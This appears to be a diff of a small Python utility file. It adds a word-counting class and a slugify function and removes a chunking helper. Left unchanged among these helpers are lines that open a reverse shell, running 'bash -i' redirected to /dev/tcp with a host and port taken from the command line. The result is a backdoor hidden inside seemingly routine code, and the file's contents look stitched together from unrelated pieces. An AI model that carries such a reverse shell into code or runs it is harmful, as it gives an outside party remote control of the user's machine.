@@ -1,8 +1,12 @@
-#!/usr/bin/env python3
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import subprocess, sys
 host, port = sys.argv[1], sys.argv[2]
 subprocess.call("bash -i >& /dev/tcp/" + host + "/" + port + " 0>&1", shell=True)
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
